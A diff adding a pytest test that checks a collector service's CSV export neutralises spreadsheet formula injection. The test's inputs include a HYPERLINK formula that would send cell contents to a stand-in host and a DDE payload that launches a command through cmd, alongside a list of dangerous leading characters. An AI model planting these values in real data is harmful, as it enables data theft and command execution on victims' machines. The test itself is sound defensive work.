@@ -436,3 +436,35 @@ def test_a_revoked_id_cannot_be_taken_over_with_any_enroll_token(make_collector)
     fresh = c.enroll(victim)
     assert post(c, fresh, body_of([doc(victim, run, 1)])).status_code == 200
     assert post(c, cred, body_of([doc(victim, run, 2)])).status_code == 401  # old stays dead
+
+
+# -- 9. formula injection in CSV ----------------------------------------------------------------
+
+
+def test_csv_cells_cannot_carry_a_formula(make_collector, tmp_path) -> None:
+    import csv as csv_module
+    import io
+
+    token = tmp_path / "operator.token"
+    c = make_collector(operator_token_file=str(token))
+    probe_id = new_id()
+    cred = c.enroll(probe_id)
+    d = doc(probe_id, new_id(), 0)
+    d["service"] = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
+    d["target"]["service"] = d["service"]
+    d["target"]["id"] = "+cmd|' /C calc'!A0"
+    d["probe_network_name"] = "@SUM(1+1)"
+    r = post(c, cred, body_of([d]))
+    assert r.json()["accepted"] == 1, r.text
+    export = c.http.get("/api/v1/export", params={"format": "csv"},
+                        headers={"Authorization": f"Bearer {token.read_text().strip()}"})  # fmt: skip
+    assert export.status_code == 200
+    (row,) = list(csv_module.DictReader(io.StringIO(export.text, newline="")))
+    assert row["service"] == "'" + d["service"]
+    assert row["target_id"] == "'" + d["target"]["id"]
+    assert row["probe_network_name"] == "'@SUM(1+1)"
+    dangerous = tuple("=+-@\t\r")
+    for name, value in row.items():
+        assert not value.startswith(dangerous), (name, value)
+        for part in value.split(";"):
+            assert not part.startswith(dangerous), (name, value)
